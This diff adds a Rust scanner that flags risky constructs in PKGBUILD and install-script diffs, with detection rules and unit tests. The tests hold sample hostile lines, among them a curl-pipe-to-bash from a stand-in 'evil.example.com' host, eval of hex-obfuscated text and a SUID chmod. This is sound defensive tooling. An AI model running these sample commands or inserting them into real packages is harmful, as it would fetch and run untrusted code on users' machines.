@@ -0,0 +1,276 @@
+use indexmap::IndexSet;
+use lazy_static::lazy_static;
+use regex::Captures;
+use regex::Regex;
+use std::fmt;
+
+/// A risky construct found in a line added by a diff
+#[derive(Debug, PartialEq, Eq, Hash)]
+pub struct Finding {
+	pub file: String,
+	/// Line number in the new version of the file
+	pub line: usize,
+	pub description: String,
+	pub text: String,
+}
+
+impl fmt::Display for Finding {
+	fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
+		write!(
+			f,
+			"{}:{}: {}\n    {}",
+			self.file,
+			self.line,
+			self.description,
+			self.text.trim()
+		)
+	}
+}
+
+struct Rule {
+	description: &'static str,
+	regex: Regex,
+}
+
+fn rule(description: &'static str, regex: &str) -> Rule {
+	let regex = Regex::new(regex).unwrap_or_else(|err| {
+		panic!(
+			"{}:{} Failed to parse regexp {}, {}",
+			file!(),
+			line!(),
+			regex,
+			err
+		)
+	});
+	Rule { description, regex }
+}
+
+lazy_static! {
+	static ref RULES: Vec<Rule> = vec![
+		rule(
+			"downloads a script and runs it",
+			r"(curl|wget)[^|]*\|[ \t]*(sudo[ \t]+)?(ba|z|da|k)?sh([^a-zA-Z0-9_]|$)",
+		),
+		rule("decodes base64 data", r"base64[ \t]+(-[a-zA-Z]*d|--decode)"),
+		rule("runs eval", r"(^|[^a-zA-Z0-9_])eval([^a-zA-Z0-9_]|$)"),
+		rule(
+			"contains hex-escaped data, possibly obfuscated",
+			r"(\\x[0-9a-fA-F]{2}){4,}",
+		),
+		rule(
+			"skips checksum verification",
+			r"(^|[^a-zA-Z0-9_])SKIP([^a-zA-Z0-9_]|$)"
+		),
+		rule(
+			"writes outside of $pkgdir",
+			r#"(^|[ \t;&|])(install|cp|mv|ln|tee|rm|chmod|chown|mkdir|touch)[ \t][^#]*[ \t"'](/(etc|usr|bin|sbin|opt|var|root|home|boot|lib|lib64|srv)(/|[ \t"']|$))"#,
+		),
+		rule(
+			"redirects output outside of $pkgdir",
+			r#">[ \t]*["']?/(etc|usr|bin|sbin|opt|var|root|home|boot|lib|lib64|srv)(/|[ \t"']|$)"#,
+		),
+		rule("opens a raw network connection", r"/dev/(tcp|udp)/"),
+		rule(
+			"sets the SUID/SGID bit",
+			r"chmod[ \t]+(-[a-zA-Z]+[ \t]+)*([ugoa]*\+[rwx]*s|[0-7]?[2-7][0-7]{3}[ \t])",
+		),
+	];
+	static ref URL_HOST: Regex = Regex::new(r#"[a-zA-Z0-9+]+://([^/ \t'"$]+)"#)
+		.unwrap_or_else(|err| panic!("{}:{} Failed to parse regexp, {}", file!(), line!(), err));
+	/// `$pkgdir`, `${pkgdir}`, `"$pkgdir"` or `"${pkgdir}"`
+	static ref PKGDIR: Regex = Regex::new(r#""\$\{?pkgdir\}?"|\$\{?pkgdir\}?"#)
+		.unwrap_or_else(|err| panic!("{}:{} Failed to parse regexp, {}", file!(), line!(), err));
+	/// `ln` with its options and the first argument, which is the target for `ln -s`
+	static ref LN_TARGET: Regex = Regex::new(
+		r#"(^|[ \t;&|])ln((?:[ \t]+-[a-zA-Z-]+)*)[ \t]+("[^"]*"|'[^']*'|[^ \t]+)"#
+	)
+	.unwrap_or_else(|err| panic!("{}:{} Failed to parse regexp, {}", file!(), line!(), err));
+}
+
+/// The line as the rules see it. Paths right after `$pkgdir` are inside the package,
+/// and a symlink target is not written to, so neither is taken for a path on the system.
+fn without_pkgdir_paths(text: &str) -> String {
+	let text = PKGDIR.replace_all(text, "PKGDIR");
+	let text = LN_TARGET.replace_all(&text, |captures: &Captures| {
+		let options = &captures[2];
+		let symbolic = options.split_whitespace().any(|option| {
+			option == "--symbolic" || (!option.starts_with("--") && option.contains('s'))
+		});
+		if symbolic {
+			format!("{}ln{} TARGET", &captures[1], options)
+		} else {
+			captures[0].to_string()
+		}
+	});
+	text.into_owned()
+}
+
+/// A line of a unified diff
+struct DiffLine<'a> {
+	file: &'a str,
+	/// Line number in the new file, for added lines
+	line: usize,
+	added: bool,
+	text: &'a str,
+}
+
+/// Parses added and removed lines of a unified diff.
+/// File headers are only expected after `diff --git` lines, before the first hunk,
+/// so that an added line starting with `++ ` is not taken for a `+++ ` header.
+fn diff_lines(diff: &str) -> Vec<DiffLine<'_>> {
+	let mut result = Vec::new();
+	let mut file = "";
+	let mut line = 0;
+	let mut in_header = true;
+	for text in diff.lines() {
+		if text.starts_with("diff ") {
+			in_header = true;
+		} else if in_header && !text.starts_with("@@ ") {
+			if let Some(name) = text.strip_prefix("+++ ") {
+				file = name.strip_prefix("b/").unwrap_or(name);
+			}
+		} else if let Some(hunk) = text.strip_prefix("@@ ") {
+			in_header = false;
+			// "@@ -12,3 +14,5 @@"
+			line = hunk
+				.split(' ')
+				.find_map(|range| range.strip_prefix('+'))
+				.and_then(|range| range.split(',').next())
+				.and_then(|start| start.parse().ok())
+				.unwrap_or(0);
+		} else if let Some(added) = text.strip_prefix('+') {
+			result.push(DiffLine {
+				file,
+				line,
+				added: true,
+				text: added,
+			});
+			line += 1;
+		} else if let Some(removed) = text.strip_prefix('-') {
+			result.push(DiffLine {
+				file,
+				line,
+				added: false,
+				text: removed,
+			});
+		} else if text.starts_with(' ') {
+			line += 1;
+		}
+	}
+	result
+}
+
+fn hosts(text: &str) -> impl Iterator<Item = &str> {
+	URL_HOST
+		.captures_iter(text)
+		.filter_map(|captures| captures.get(1))
+		.map(|host| host.as_str())
+}
+
+/// Scans lines added by a unified diff for risky constructs.
+/// URL hosts that only appear in added lines are reported as new source domains,
+/// once at their first occurrence.
+pub fn scan_diff(diff: &str) -> Vec<Finding> {
+	let lines = diff_lines(diff);
+	let mut known_hosts: IndexSet<&str> = lines
+		.iter()
+		.filter(|line| !line.added)
+		.flat_map(|line| hosts(line.text))
+		.collect();
+	let mut result = IndexSet::new();
+	for line in lines.iter().filter(|line| line.added) {
+		let finding = |description: String| Finding {
+			file: line.file.to_string(),
+			line: line.line,
+			description,
+			text: line.text.to_string(),
+		};
+		let text = without_pkgdir_paths(line.text);
+		for rule in RULES.iter() {
+			if rule.regex.is_match(&text) {
+				result.insert(finding(rule.description.to_string()));
+			}
+		}
+		for host in hosts(line.text) {
+			if known_hosts.insert(host) {
+				result.insert(finding(format!("new source domain {}", host)));
+			}
+		}
+	}
+	result.into_iter().collect()
+}
+
+#[cfg(test)]
+mod tests {
+	use crate::suspicious_patterns::*;
+
+	fn descriptions(diff: &str) -> Vec<String> {
+		scan_diff(diff)
+			.into_iter()
+			.map(|finding| format!("{}:{} {}", finding.file, finding.line, finding.description))
+			.collect()
+	}
+
+	#[test]
+	fn test_scan_diff() {
+		let diff = r#"diff --git a/PKGBUILD b/PKGBUILD
+--- a/PKGBUILD
++++ b/PKGBUILD
+@@ -3 +3 @@
+-source=("https://example.org/foo-$pkgver.tar.gz")
++source=("https://example.org/foo-$pkgver.tar.gz" "https://evil.example.com/x")
+@@ -10,0 +11,11 @@ build() {
++  curl -s https://evil.example.com/x | bash
++  echo ZWNobwo= | base64 -d > "$srcdir/x"
++  install -Dm755 foo /usr/bin/foo
++  install -Dm755 foo "$pkgdir/usr/bin/foo"
++  ./configure --prefix=/usr
++++ > /etc/foo
++  install -Dm644 LICENSE "$pkgdir"/usr/share/licenses/foo/LICENSE
++  mkdir -p "${pkgdir}"/usr/bin
++  cp -r lib ${pkgdir}/usr/lib/foo
++  ln -s /usr/lib/foo/bin "$pkgdir/usr/bin/foo"
++  ln -sf /usr/lib/foo/bin /usr/bin/foo
+diff --git a/foo.install b/foo.install
+--- a/foo.install
++++ b/foo.install
+@@ -1 +1 @@
+-echo
++eval "$x"
+"#;
+		assert_eq!(
+			descriptions(diff),
+			[
+				"PKGBUILD:3 new source domain evil.example.com",
+				"PKGBUILD:11 downloads a script and runs it",
+				"PKGBUILD:12 decodes base64 data",
+				"PKGBUILD:13 writes outside of $pkgdir",
+				"PKGBUILD:16 redirects output outside of $pkgdir",
+				"PKGBUILD:21 writes outside of $pkgdir",
+				"foo.install:1 runs eval",
+			]
+		);
+	}
+
+	#[test]
+	fn test_scan_install_script() {
+		let diff = r#"--- /dev/null
++++ b/foo.install
+@@ -0,0 +1,4 @@
++post_install() {
++  eval "$(printf '\x65\x76\x69\x6c')"
++  chmod u+s /usr/bin/foo
++  sha256sums=('SKIP')
+"#;
+		assert_eq!(
+			descriptions(diff),
+			[
+				"foo.install:2 runs eval",
+				"foo.install:2 contains hex-escaped data, possibly obfuscated",
+				"foo.install:3 writes outside of $pkgdir",
+				"foo.install:3 sets the SUID/SGID bit",
+				"foo.install:4 skips checksum verification",
+			]
+		);
+	}
+}